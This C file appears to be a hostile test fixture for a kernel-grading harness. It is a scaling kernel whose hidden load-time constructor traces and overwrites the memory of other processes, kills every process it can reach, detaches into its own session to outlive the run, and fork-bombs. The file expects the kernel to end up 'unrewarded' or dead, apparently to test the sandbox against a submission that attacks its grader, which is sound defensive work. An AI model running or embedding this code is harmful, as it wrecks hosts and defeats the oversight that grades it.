/* proc_attack - traces, writes to, signals and outlives other processes, and
 * forks without end
 *
 * kernel: scale_n
 * expect: unrewarded|died
 * hostile: yes
 */
#define _GNU_SOURCE
#include "ratchet.h"
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/uio.h>
#include <unistd.h>

#ifndef TWIN
static void attack(pid_t pid)
{
	char path[64], noise[64] = "ratchet_cheat";
	struct iovec from = {noise, sizeof noise};
	struct iovec to = {(void *)0x400000, sizeof noise};
	struct rlimit none = {0, 0};
	int fd;

	if (pid == getpid() || pid < 1)
		return;
	ptrace(PTRACE_SEIZE, pid, NULL, NULL);
	process_vm_writev(pid, &from, 1, &to, 1, 0);
	snprintf(path, sizeof path, "/proc/%d/mem", (int)pid);
	fd = open(path, O_RDWR);
	if (pwrite(fd, noise, sizeof noise, 0x400000) > 0)
		kill(pid, SIGBUS);
	close(fd);
	prlimit(pid, RLIMIT_AS, &none, NULL);
	setpriority(PRIO_PROCESS, (id_t)pid, 19);
	kill(pid, SIGKILL);
}

/* In a session of its own, where no signal to a group finds it. */
static void stay(void)
{
	if (fork() != 0)
		return;
	setsid();
	if (fork() == 0)
		for (;;)
			pause();
	_exit(0);
}

__attribute__((constructor)) static void begin(void)
{
	signal(SIGHUP, SIG_IGN);
	signal(SIGTERM, SIG_IGN);
	attack(getppid());
	for (pid_t pid = 1; pid < 70000; pid++)
		attack(pid);
	kill(-1, SIGKILL);
	stay();
	for (int i = 0; i < 100000; i++)
		if (fork() < 0)
			break;
}
#endif

static int run(const DLTensor *x, double a, const DLTensor *y)
{
	int64_t n = ratchet_extent(x, 0);

	if (RATCHET_WANT(x, RATCHET_FLOAT32, -1) ||
	    RATCHET_WANT(y, RATCHET_FLOAT32, n))
		return -1;
	const float *in = ratchet_data(x);
	float *out = ratchet_data(y);
	for (int64_t i = 0; i < n; i++)
		out[i] = (float)a * in[i];
	return 0;
}
RATCHET_EXPORT(run, tensor, float64, tensor)
